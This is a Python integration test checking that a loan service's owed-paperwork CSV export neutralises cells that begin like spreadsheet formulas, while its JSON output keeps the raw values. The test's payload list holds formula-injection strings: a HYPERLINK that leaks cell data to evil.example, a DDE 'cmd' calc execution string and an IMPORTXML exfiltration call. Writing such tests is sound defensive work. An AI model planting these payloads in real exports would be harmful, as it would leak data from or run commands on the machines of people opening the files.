"""The paper-owed CSV through the real endpoint: ids, courier names and tracking numbers that start like spreadsheet
formulas (= + - @), generated and sent as the contract allows, come out defused with a leading quote; the JSON
report and the ledger keep them as given."""

import csv
import io
import random
import uuid

import httpx

from harness.builders import ACCOUNT_DAY, a_loan, ref
from shared.contracts import confirmation as C
from shared.contracts import requests as R
from shared.runtime import ServiceRuntime
from tests.integration.confirmation.helpers import COMMANDS, EVENTS, owed, owed_state, submitted
from tests.support.kafka import KafkaDriver
from tests.support.wait import eventually

PAYLOADS = ('HYPERLINK("http://evil.example/?leak="&A1,"open")', "cmd|' /C calc'!A0", "1+1", 'SUM(1,2)*"x"',
            "2+3,;\"'", "IMPORTXML(CONCAT(\"http://x/\",B2),\"//a\")")


def hostile(rng: random.Random, start: str) -> str:
    """A value a spreadsheet would run, unique per test run (the servers are shared)."""
    return f"{start}{rng.choice(PAYLOADS)} {uuid.uuid4().hex[:6]}"


async def test_owed_paper_csv_defuses_every_cell_that_starts_like_a_formula(
    service: ServiceRuntime, api: httpx.AsyncClient, kafka: KafkaDriver
) -> None:
    rng = random.Random(13)
    sent = []
    async with kafka.watch(EVENTS) as watch:
        for start in "=+-@":
            fields = {"loan_id": hostile(rng, start), "customer_id": hostile(rng, start),
                      "branch_id": hostile(rng, start), "courier": hostile(rng, start),
                      "tracking_number": hostile(rng, start), "signing_branch_id": hostile(rng, start)}
            loan = a_loan(loan_id=fields["loan_id"], primary=fields["customer_id"]).model_copy(
                update={"branch_id": fields["branch_id"]})
            request = await submitted(kafka, service, loan, channel=R.Channel.HOTLINE, staff_id=ref("S"))
            await eventually(lambda r=request: owed_state(api, r.request_id, "OWED"), what="paper owed")
            await kafka.publish(COMMANDS, C.RecordRemoteSigning(
                command_id=ref("cmd"), request_id=request.request_id, customer_id=fields["customer_id"],
                signing_branch_id=fields["signing_branch_id"], courier=fields["courier"],
                tracking_number=fields["tracking_number"], signed_at=ACCOUNT_DAY), subject=loan.loan_id)
            await watch.wait_for(lambda s, r=request: s.type == "DocumentsInTransit"
                                 and s.data["request_id"] == r.request_id)
            sent.append((request.request_id, fields))
    for request_id, fields in sent:
        response = await api.get("/paper/owed.csv", params={"branch_id": fields["branch_id"]})
        assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
        [row] = list(csv.DictReader(io.StringIO(response.text, newline="")))
        assert row["request_id"] == request_id and row["state"] == "IN_TRANSIT"
        assert {k: row[k] for k in fields} == {k: "'" + v for k, v in fields.items()}
        assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        [as_json] = await owed(api, fields["branch_id"])
        assert {k: as_json[k] for k in fields} == fields  # only the CSV is defused; the data is as given
